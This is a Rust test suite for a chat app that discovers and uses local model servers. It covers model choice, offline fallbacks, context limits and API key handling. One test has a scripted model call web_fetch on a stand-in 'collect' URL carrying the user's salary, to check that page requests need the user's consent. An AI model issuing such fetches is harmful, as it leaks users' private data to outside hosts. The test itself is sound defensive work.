use parlance_contract::{
    AppEvent, BlockView, EndingAction, KeyLocation, ModelRef, ModelServerState, ModelServerView, ModelState,
    ModelUse, ModelsView, OfflineQuestions, ProblemCode, Settings,
};
use parlance_domain::MessageStatus;
use parlance_testkit::fault::{Answer, FaultServer};
use parlance_testkit::model_server::{ModelServer, PlayedModel, Program};
use parlance_testkit::running::{RunningApp, Setup, assert_status, words_of};
use parlance_testkit::task_panics::panic_in_next_task;

const KEY: &str = "sk-0123456789abcdef0123456789abcdef";

pub(crate) async fn ollama(models: &[&str]) -> ModelServer {
    let models = models.iter().map(|model| PlayedModel::new(model)).collect();
    ModelServer::start(Program::Ollama, models).await
}

/// An app that probes this server like one of the usual ports.
pub(crate) async fn near(server: &ModelServer) -> RunningApp {
    Setup::default().model_servers(&[server.url()]).start().await
}

pub(crate) fn model(server: &ModelServer, name: &str) -> Option<ModelRef> {
    Some(ModelRef { address: server.url(), model: name.to_owned() })
}

/// The models as soon as they are like this.
pub(crate) async fn models_when(app: &mut RunningApp, is_met: impl Fn(&ModelsView) -> bool) -> ModelsView {
    app.until(|event| match event {
        AppEvent::ModelsChanged { models } if is_met(&models) => Some(*models),
        _ => None,
    })
    .await
}

fn state(models: &ModelsView) -> Option<ModelState> {
    models.answers.as_ref().map(|answers| answers.state)
}

/// Waits until the chosen model is in this state. The event may have arrived already with an answer.
pub(crate) async fn until_state(app: &mut RunningApp, wanted: ModelState) -> ModelsView {
    let models = app.app.start().await.unwrap().models;
    if state(&models) == Some(wanted) {
        return models;
    }
    models_when(app, |models| state(models) == Some(wanted)).await
}

fn only_server(models: &ModelsView) -> &ModelServerView {
    assert_eq!(models.servers.len(), 1, "{models:?}");
    &models.servers[0]
}

#[tokio::test]
async fn a_model_server_of_this_computer_is_found_offered_and_used() {
    let server = ModelServer::start(
        Program::Ollama,
        vec![PlayedModel::new("qwen3:8b"), PlayedModel::embedding("nomic")],
    )
    .await;
    let mut app = near(&server).await;
    app.app.find_models().await.unwrap();
    let start = app.app.start().await.unwrap();
    assert!(start.is_first_run);
    assert_eq!(start.models.offer, model(&server, "qwen3:8b"), "the first page can offer it");
    let found = only_server(&start.models);
    assert_eq!((found.program.as_deref(), found.version.as_deref()), (Some("Ollama"), Some("0.12.3")));
    assert_eq!(found.state, ModelServerState::Running);
    let facts: Vec<_> = found.models.iter().map(|model| (model.purpose, model.bytes)).collect();
    assert_eq!(facts, [(ModelUse::Answers, Some(5_200_000_000)), (ModelUse::Meaning, Some(274_000_000))]);

    let chosen = app.app.choose_answer_model(model(&server, "qwen3:8b")).await.unwrap();
    assert_eq!(chosen.answers.unwrap().server_name, "Ollama");
    assert_eq!(chosen.offer, None);
    until_state(&mut app, ModelState::Ready).await;
    let id = app.new_conversation().await;
    let answer = app.ask(id, "Hi").await;
    assert_status(&answer, MessageStatus::Complete);
    assert_eq!((answer.model.as_deref(), words_of(&answer).contains("Hello.")), (Some("qwen3:8b"), true));

    app.app.choose_answer_model(None).await.unwrap();
    let answer = app.ask(id, "What is 6 * 7?").await;
    assert!(words_of(&answer).contains("42"), "the local service answers by itself again");
    assert_eq!(server.asked().len(), 1);
}

#[tokio::test]
async fn the_choice_is_there_after_a_restart_also_while_the_server_is_not() {
    let mut server = ollama(&["qwen3:8b"]).await;
    let app = near(&server).await;
    app.app.find_models().await.unwrap();
    app.app.choose_answer_model(model(&server, "qwen3:8b")).await.unwrap();
    server.go_down().await;
    let mut app = app.restart().await;
    let models = until_state(&mut app, ModelState::Stopped).await;
    let answers = models.answers.unwrap();
    assert_eq!((answers.model.as_str(), answers.server_name.as_str()), ("qwen3:8b", "Ollama"));
    let found = app.app.find_models().await.unwrap();
    let gone = only_server(&found);
    assert_eq!((gone.state, gone.program.as_deref()), (ModelServerState::Stopped, Some("Ollama")));
    let id = app.new_conversation().await;
    let answer = app.ask(id, "What is 6 * 7?").await;
    assert_status(&answer, MessageStatus::Failed);
    assert!(answer.blocks.is_empty(), "no words of the service stand in for those of the model");
    let actions = answer.ending.unwrap().actions;
    assert_eq!(actions, [EndingAction::Retry], "without a document there is nothing to quote");

    server.come_up();
    assert!(words_of(&app.ask(id, "Hi").await).contains("Hello."), "the next question is a probe");
}

#[tokio::test]
async fn quotes_are_offered_and_given_in_place_of_a_model_that_is_away() {
    let mut server = ollama(&["qwen3:8b"]).await;
    let mut app = near(&server).await;
    app.app.choose_answer_model(model(&server, "qwen3:8b")).await.unwrap();
    until_state(&mut app, ModelState::Ready).await;
    server.go_down().await;
    let id = app.new_conversation().await;
    app.attach_document(id, "lease.txt", "The rent is 1250 EUR a month.").await;
    let failed = app.ask(id, "How high is the rent?").await;
    let actions = failed.ending.unwrap().actions;
    assert_eq!(actions, [EndingAction::Retry, EndingAction::Quote]);
    let sent = app.app.quote_instead(failed.id).await.unwrap();
    let quoted = app.until_ended(sent.answer.id).await;
    assert_status(&quoted, MessageStatus::Complete);
    assert!(words_of(&quoted).contains("1250 EUR") && quoted.is_of_reader, "{}", words_of(&quoted));
    assert_eq!((quoted.version, quoted.n_versions), (2, 2), "beside the failed one");
}

#[tokio::test]
async fn a_question_waits_in_the_outbox_for_a_model_that_is_away_when_it_is_to_go_by_itself() {
    let mut server = ollama(&["qwen3:8b"]).await;
    let mut app = near(&server).await;
    let set = Settings { offline_questions: OfflineQuestions::GoWhenOnline, ..Settings::default() };
    app.app.save_settings(set).await.unwrap();
    app.app.choose_answer_model(model(&server, "qwen3:8b")).await.unwrap();
    until_state(&mut app, ModelState::Ready).await;
    server.go_down().await;
    let id = app.new_conversation().await;
    app.app.send_message(id, "Hi".to_owned()).await.unwrap();
    let entries = app.until(|event| match event {
        AppEvent::QuestionReturned { entries, .. } => Some(entries),
        _ => None,
    });
    assert_eq!(entries.await.len(), 1);
    until_state(&mut app, ModelState::Stopped).await;
    server.come_up();
    app.clock.leap();
    let answer = app.until(|event| match event {
        AppEvent::QuestionSent { sent, .. } => Some(sent.answer.id),
        _ => None,
    });
    let answer = answer.await;
    assert!(words_of(&app.until_ended(answer).await).contains("Hello."));
}

#[tokio::test]
async fn what_a_model_read_and_what_was_left_out_is_shown_and_kept() {
    let server = ollama(&["qwen3:8b"]).await;
    server.set_models(vec![PlayedModel::new("qwen3:8b").loaded()]);
    let mut app = near(&server).await;
    app.app.choose_answer_model(model(&server, "qwen3:8b")).await.unwrap();
    until_state(&mut app, ModelState::Ready).await;
    let id = app.new_conversation().await;
    app.attach_document(id, "lease.md", "# Rent\n\nThe rent is 1250 EUR a month.").await;
    let answer = app.ask(id, "How high is the rent?").await;
    let passages = answer.blocks.iter().find_map(|block| match block {
        BlockView::FileSearch { passages, .. } => passages.clone(),
        _ => None,
    });
    let passages = passages.expect("the passages are in the answer");
    assert!(passages[0].text.contains("1250 EUR") && passages[0].place.contains("Rent"), "{passages:?}");
    assert!(passages[0].file_id.is_some() && answer.is_of_local_service && answer.sources.is_empty());
    let context = answer.context.unwrap();
    assert_eq!((context.n_questions, context.n_messages_left_out), (1, 0));
    let limit = context.context_tokens.unwrap() / 4;
    assert_eq!(server.asked()[0]["max_tokens"], limit, "a quarter of the context bounds the answer");

    // Questions so long that the earlier ones do not fit into the context with the last.
    let long: String = (0..1_300).map(|n| format!("w{n} x ")).collect();
    app.ask(id, &long).await;
    let second = app.ask(id, &long).await;
    assert!(second.context.unwrap().n_messages_left_out > 0, "{:?}", second.context);
    let next = app.app.preview_request(id).await.unwrap();
    assert!(next.text.unwrap().to_string().contains(" of "), "the composer says it before the next question");
    let app = app.restart().await;
    let messages = app.open(id).await.messages;
    assert_eq!(messages.last().unwrap().context, second.context, "after a restart too");
}

#[tokio::test]
async fn an_answer_that_runs_in_circles_is_kept_once_and_the_rest_can_be_shown() {
    let server = ollama(&["qwen3:8b"]).await;
    let sentence = "The policy document is now deprecated. ";
    server.say(&[sentence; 12]);
    let mut app = near(&server).await;
    app.app.choose_answer_model(model(&server, "qwen3:8b")).await.unwrap();
    until_state(&mut app, ModelState::Ready).await;
    let id = app.new_conversation().await;
    let answer = app.ask(id, "Is it valid?").await;
    assert_status(&answer, MessageStatus::Cut);
    assert_eq!(words_of(&answer).matches("deprecated").count(), 1);
    assert_eq!(answer.ending.unwrap().actions, [EndingAction::Retry, EndingAction::Continue]);
    assert!(!answer.replaced.is_empty(), "what was left out can be shown");
}

#[tokio::test]
async fn a_model_that_was_removed_stays_chosen_and_is_shown_as_missing() {
    let server = ollama(&["qwen3:8b", "gemma3:4b"]).await;
    let mut app = near(&server).await;
    app.app.choose_answer_model(model(&server, "qwen3:8b")).await.unwrap();
    until_state(&mut app, ModelState::Ready).await;
    server.set_models(vec![PlayedModel::new("gemma3:4b"), PlayedModel::new("llama3.1:8b")]);
    let id = app.new_conversation().await;
    let answer = app.ask(id, "What is 6 * 7?").await;
    let why = answer.ending.unwrap().title.to_string();
    assert!(why.contains("no longer has the model qwen3:8b"), "{why}");
    let models = until_state(&mut app, ModelState::Missing).await;
    assert!(models.answers.unwrap().since_ms.is_some());
    let app = app.restart().await;
    let models = app.app.find_models().await.unwrap();
    assert_eq!(models.answers.unwrap().model, "qwen3:8b");
    assert_eq!(models.servers[0].models.len(), 2);
    // Another model is chosen in its place.
    let models = app.app.choose_answer_model(model(&server, "gemma3:4b")).await.unwrap();
    assert_eq!(models.answers.unwrap().model, "gemma3:4b");
}

#[tokio::test]
async fn a_model_for_meaning_is_chosen_and_its_progress_is_shown() {
    let server = ModelServer::start(Program::Ollama, vec![PlayedModel::embedding("nomic-embed-text")]).await;
    let mut app = near(&server).await;
    let id = app.new_conversation().await;
    app.attach_document(id, "rules.txt", "The hound has to be kept on a lead.").await;
    app.app.choose_meaning_model(model(&server, "nomic-embed-text")).await.unwrap();
    let models = models_when(&mut app, |models| {
        models.meaning_progress.is_some_and(|progress| progress.n_ready == 1 && progress.n_passages == 1)
    })
    .await;
    assert_eq!(models.meaning.unwrap().state, ModelState::Ready);
    assert_eq!(models.answers, None, "it says nothing of answers");
    let models = app.app.choose_meaning_model(None).await.unwrap();
    assert_eq!((models.meaning, models.meaning_progress), (None, None));
}

#[tokio::test]
async fn a_server_with_a_key_is_added_kept_and_forgotten_and_its_key_is_nowhere_in_the_data() {
    let server = ModelServer::start(Program::Jan, vec![PlayedModel::new("Jan-v1-4B")]).await;
    server.require_key(KEY);
    let mut app = RunningApp::start().await;
    for wrong in ["", "sk-wrong"] {
        let problem =
            app.app.add_model_server(server.url(), wrong.to_owned(), String::new()).await.unwrap_err();
        assert_eq!(problem.view().code, ProblemCode::Key);
    }
    assert!(app.app.find_models().await.unwrap().servers.is_empty(), "nothing is kept");

    let models = app
        .app
        .add_model_server(format!(" {}/v1/ ", server.url()), format!(" {KEY} "), String::new())
        .await
        .unwrap();
    let added = only_server(&models);
    assert_eq!((added.state, added.is_added), (ModelServerState::Running, true));
    assert_eq!((added.address.as_str(), added.key_ends_in.as_deref()), (server.url().as_str(), Some("cdef")));
    assert!(matches!(added.key_location, KeyLocation::Keyring | KeyLocation::Session));
    app.app.choose_answer_model(model(&server, "Jan-v1-4B")).await.unwrap();
    until_state(&mut app, ModelState::Ready).await;
    let id = app.new_conversation().await;
    assert!(words_of(&app.ask(id, "Hi").await).contains("Hello."));

    let start = serde_json::to_string(&app.app.start().await.unwrap()).unwrap();
    assert!(!start.contains(KEY), "the window never sees the key");
    for entry in std::fs::read_dir(app.data_dir())
        .unwrap()
        .chain(std::fs::read_dir(app.data_dir().join("service")).unwrap())
    {
        let path = entry.unwrap().path();
        if path.is_file() {
            let bytes = std::fs::read(&path).unwrap();
            assert!(!bytes.windows(KEY.len()).any(|part| part == KEY.as_bytes()), "{}", path.display());
        }
    }
    let models = app.app.forget_model_server(server.url()).await.unwrap();
    assert_eq!((models.servers.len(), models.answers), (0, None));
    let answer = app.ask(id, "What is 6 * 7?").await;
    assert!(words_of(&answer).contains("42"));
}

#[tokio::test]
async fn what_is_no_model_server_is_not_added() {
    let page = FaultServer::start(Answer::web_page(200)).await;
    let gone = FaultServer::refusing();
    let app = RunningApp::start().await;
    for (address, key, code, said) in [
        (page.url(), "", ProblemCode::Service, "doesn’t list any models"),
        (gone.url(), "", ProblemCode::Offline, "Can’t connect to 127.0.0.1"),
        (String::new(), "", ProblemCode::Input, "http://127.0.0.1:11434"),
        ("http://me:word@127.0.0.1:1".to_owned(), "", ProblemCode::Input, "user name and password"),
        (format!("https://{KEY}"), "", ProblemCode::Input, "That’s a key"),
        ("http://models.example.org".to_owned(), KEY, ProblemCode::Input, "Use an https:// address"),
    ] {
        let problem =
            app.app.add_model_server(address.clone(), key.to_owned(), String::new()).await.unwrap_err();
        assert_eq!(problem.view().code, code, "{address}: {problem}");
        assert!(
            problem.to_string().contains(said) && !problem.to_string().contains(KEY),
            "{address}: {problem}"
        );
    }
    assert!(app.app.find_models().await.unwrap().servers.is_empty());
}

#[tokio::test]
async fn a_model_that_needs_more_memory_than_there_is_is_listed_and_not_offered() {
    let models = vec![
        PlayedModel::new("llama3.1:70b").of_bytes(1 << 49),
        PlayedModel::new("qwen3:8b").of_bytes(1_000_000),
    ];
    let server = ModelServer::start(Program::Ollama, models).await;
    let app = near(&server).await;
    let found = app.app.find_models().await.unwrap();
    let needs: Vec<bool> =
        only_server(&found).models.iter().map(|model| model.needs_bytes.is_some()).collect();
    assert_eq!(needs, [true, false]);
    assert_eq!(found.offer, model(&server, "qwen3:8b"));
    assert!(found.memory_bytes.is_some());
}

#[tokio::test]
async fn a_model_that_runs_elsewhere_is_not_offered_and_says_where() {
    let cloud = PlayedModel::new("gpt-oss:120b-cloud").on_host("https://ollama.com:443");
    let server = ModelServer::start(Program::Ollama, vec![cloud]).await;
    let app = near(&server).await;
    let found = app.app.find_models().await.unwrap();
    assert_eq!(found.offer, None);
    assert_eq!(only_server(&found).models[0].remote_host.as_deref(), Some("ollama.com"));
    let models = app.app.choose_answer_model(model(&server, "gpt-oss:120b-cloud")).await.unwrap();
    assert_eq!(models.answers.unwrap().sent_to.as_deref(), Some("ollama.com"));
}

#[tokio::test]
async fn what_listens_by_chance_at_a_usual_port_is_not_shown() {
    let page = FaultServer::start(Answer::web_page(200)).await;
    let app = Setup::default().model_servers(&[page.url(), FaultServer::refusing().url()]).start().await;
    let found = app.app.find_models().await.unwrap();
    assert!(found.servers.is_empty() && !found.is_searching, "{found:?}");
}

#[tokio::test]
async fn tasks_of_models_that_panic_are_named_in_a_notice() {
    for (task, said) in [
        ("search models", "couldn’t look for model servers"),
        ("follow models", "stopped checking whether the chosen model is available"),
    ] {
        let _panic = panic_in_next_task(task);
        let mut app = RunningApp::start().await;
        app.until_notice(said).await;
        // The next panic is for the next app.
        app.app.close().await;
    }
}

#[tokio::test]
async fn a_model_is_offered_web_pages_only_when_that_is_turned_on_and_the_user_is_asked() {
    let server = ollama(&["qwen3:8b"]).await;
    let mut app = near(&server).await;
    models_when(&mut app, |models| !models.servers.is_empty()).await;
    app.app.choose_answer_model(model(&server, "qwen3:8b")).await.unwrap();
    until_state(&mut app, ModelState::Ready).await;
    let id = app.new_conversation().await;
    app.ask(id, "Hello").await;
    let offered = |at: usize| server.asked()[at]["tools"].to_string();
    assert!(offered(0).contains("calculator") && !offered(0).contains("web_"), "{}", offered(0));

    let settings = app.app.start().await.unwrap().settings;
    app.app.save_settings(Settings { lets_models_read_pages: true, ..settings }).await.unwrap();
    let address = "https://harbour.example/collect?text=My+salary";
    server.call("web_fetch", &format!("{{\"url\":\"{address}\"}}"));
    server.say(&["I was not allowed to look."]);
    let question = "What do I pay in tax?".to_owned();
    let sent = app.app.send_message(id, question).await.unwrap().answer;
    let models = models_when(&mut app, |models| !models.page_requests.is_empty()).await;
    let request = &models.page_requests[0];
    assert_eq!((request.address.as_str(), request.has_documents), (address, false));
    app.app.answer_page_request(request.id.clone(), false).await.unwrap();
    models_when(&mut app, |models| models.page_requests.is_empty()).await;
    let answer = app.until_ended(sent.id).await;
    assert!(words_of(&answer).contains("I was not allowed to look."), "{answer:?}");
    assert!(offered(1).contains("web_fetch") && !offered(1).contains("web_search"));
    assert!(server.asked()[2].to_string().contains("has not allowed this page"));
}

#[tokio::test]
async fn a_model_server_that_dies_in_an_answer_is_named_and_no_administrator_is() {
    let server = ollama(&["qwen3:8b"]).await;
    let mut app = near(&server).await;
    // A server without a search result is known by its address only.
    app.app.find_models().await.unwrap();
    app.app.choose_answer_model(model(&server, "qwen3:8b")).await.unwrap();
    until_state(&mut app, ModelState::Ready).await;
    server.die_after("Half");
    let id = app.new_conversation().await;
    let answer = app.ask(id, "Hi").await;
    assert_status(&answer, MessageStatus::Failed);
    let ending = answer.ending.unwrap();
    let said = ending.detail.to_string();
    assert!(said.to_lowercase().contains("start ollama again"), "{ending:?}");
    assert!(!said.contains("administrator"), "{ending:?}");
}
